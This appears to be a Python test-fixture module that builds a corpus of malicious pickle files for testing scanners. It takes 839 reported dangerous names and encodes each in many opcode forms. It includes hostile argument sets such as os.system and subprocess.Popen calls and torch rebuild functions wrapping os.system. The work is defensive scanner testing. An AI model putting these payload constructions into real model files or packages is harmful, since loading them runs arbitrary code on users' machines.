"""Every name that somebody has reported as dangerous in a pickle, in every form of use.

`gadgets.csv` lists them (module, name, needs, effect, source): 839 names out of the lists and advisories of picklescan,
fickling, modelscan, modelaudit, saferpickle, aisbom and our own. `*` is a whole module: a member with a made-up name
stands for it.
"""

from __future__ import annotations

import csv
from pathlib import Path

from fixtures.assemble import P0, P1, P2, P4, Ops, Spelling, discard

from .payloads import COMMAND, Payload, Sample, Technique, bind

TABLE = Path(__file__).with_name("gadgets.csv")
INVENTED = "weighbridge_invented"

_SYSTEM = P2.name("os", "system")
_INNER = P2.stream(P2.call("os:system", COMMAND))
# Names that ordinary files use as well: their import says nothing, and the call is hostile by its arguments.
ABUSED: dict[str, tuple[object, ...]] = {
    "_codecs:encode": ("bf", "rot13"),
    "_codecs:decode": (b"bf", "rot13"),
    "codecs:decode": (b"bf", "rot13"),
    "builtins:bytearray": (10**12,),
    "builtins:range": (_SYSTEM,),
    "builtins:pow": (10, 10**10),
    "builtins:getattr": (P2.name("torch", "serialization"), "os"),
    "builtins:type": ("Shape", P2.tuple_of(P2.name("builtins", "object")), P2.dict_of({"__del__": _SYSTEM})),
    "collections:defaultdict": (_SYSTEM,),
    "copyreg:_reconstructor": (P2.name("subprocess", "Popen"), P2.name("builtins", "object"), None),
    "copyreg:__newobj__": (P2.name("subprocess", "Popen"), "true"),
    "copyreg:__newobj_ex__": (P2.name("subprocess", "Popen"), ("true",), {}),
    "functools:partial": (_SYSTEM, COMMAND),
    "joblib.numpy_pickle:NumpyArrayWrapper": (_SYSTEM, (1,), "C", "O"),
    "torch._tensor:_rebuild_from_type_v2": (_SYSTEM, P2.name("torch", "Tensor"), (COMMAND,), {}),
    "torch._utils:_rebuild_wrapper_subclass": (_SYSTEM, 0, (1,), (1,), 0, 0, "cpu", False),
    "torch.storage:_load_from_bytes": (_INNER,),
    "numpy:ndarray": ((1,), P2.call("numpy:dtype", "O8", False, True), bytes(8)),
}


# Names whose import does nothing and that ordinary files store as data; only their call is a sample.
STORED = set("builtins:hash builtins:max builtins:min builtins:sorted builtins:sum numpy:poly1d numpy:prod".split())
_ALIASES = {"__builtin__": "builtins", "_functools": "functools", "copy_reg": "copyreg"}


def _text_names(write: Spelling) -> Technique:
    """Call by REDUCE as a pickler of this protocol spells it."""
    return lambda payload, _: write.stream(payload.call(write))


FORMS: dict[str, dict[str, Technique]] = {
    "reduce": {
        "reduce-p0": _text_names(P0),
        "reduce-p2": _text_names(P2),
        "reduce-p4": _text_names(P4),
        "reduce-p2-popped": lambda payload, _: P2.stream(discard(payload.call(P2), b"}")),
    },
    "inst": {"inst": lambda payload, _: P1.stream(P1.inst(payload.module, payload.name, *payload.arguments))},
    "obj": {
        "obj-p1": lambda payload, _: P1.stream(P1.obj(payload.imported(P1), *payload.arguments)),
        "obj-p4": lambda payload, _: P4.stream(P4.obj(payload.imported(P4), *payload.arguments)),
    },
    "newobj": {
        "newobj-p2": lambda payload, _: P2.stream(P2.newobj(payload.imported(P2), *payload.arguments)),
        "newobj-p4": lambda payload, _: P4.stream(P4.newobj(payload.imported(P4), *payload.arguments)),
        "newobj-ex": lambda payload, _: P4.stream(
            P4.newobj_ex(payload.imported(P4), payload.arguments, {"shell": True})
        ),
        "newobj-build": lambda payload, _: P2.stream(P2.build(P2.newobj(payload.imported(P2)), {"args": COMMAND})),
    },
    "build": {
        "build": lambda payload, _: P2.stream(P2.build(payload.imported(P2), {"load": COMMAND})),
        "setitem": lambda payload, _: P2.stream(P2.set_item(payload.imported(P2), "load", COMMAND)),
        "append": lambda payload, _: P2.stream(P2.append(payload.imported(P2), COMMAND)),
    },
    "import": {
        "import-p2": lambda payload, _: P2.stream(P2.list_of(payload.imported(P2))),
        "import-p4-popped": lambda payload, _: P4.stream(discard(payload.imported(P4), b"}")),
        "state-of-import": lambda payload, _: P2.stream(
            P2.build(payload.imported(P2), P2.tuple_of(None, {"load": COMMAND}))
        ),
    },
}
_IMPORT_ONLY: tuple[str, ...] = ("import-p2", "import-p4-popped")


def rows() -> list[dict[str, str]]:
    """Return the rows of the table."""
    with TABLE.open(newline="", encoding="utf-8") as file:
        return list(csv.DictReader(file))


def _payload(row: dict[str, str]) -> Payload:
    name = INVENTED if row["name"] == "*" else row["name"]
    return Payload(row["module"], name, ABUSED.get(_key(row["module"], name), (COMMAND,)))


def _key(module: str, name: str) -> str:
    """Return the name as the tables here spell it."""
    return f"{_ALIASES.get(module, module)}:{name}"


def _techniques(row: dict[str, str]) -> dict[str, Technique]:
    allowed = {**FORMS["import"]}
    for need in row["needs"].split("|"):
        allowed |= FORMS[need]
    if _key(row["module"], row["name"]) in ABUSED.keys() | STORED:
        for name in (*_IMPORT_ONLY, "newobj-build"):
            allowed.pop(name, None)
    return allowed


def _path(index: int, row: dict[str, str], form: str) -> str:
    name = f"{row['module']}.{row['name']}".replace("*", INVENTED)
    return f"gadgets/{form}/{index:03}-{''.join(c if c.isalnum() or c in '._' else '-' for c in name)[:80]}.pkl"


def samples() -> list[Sample]:
    """Return every name of the table in every form it allows."""
    result = []
    for index, row in enumerate(rows()):
        payload = _payload(row)
        for form, technique in _techniques(row).items():
            make = bind(technique, payload, P4)
            result.append(Sample(_path(index, row, form), f"gadgets/{form}", make))
    return result


def code(module: str, name: str, write: Spelling = P4) -> Ops:
    """Return a hostile call of `module.name`, with the arguments that make it hostile where that matters."""
    return Payload(module, name, ABUSED.get(_key(module, name), (COMMAND,))).call(write)
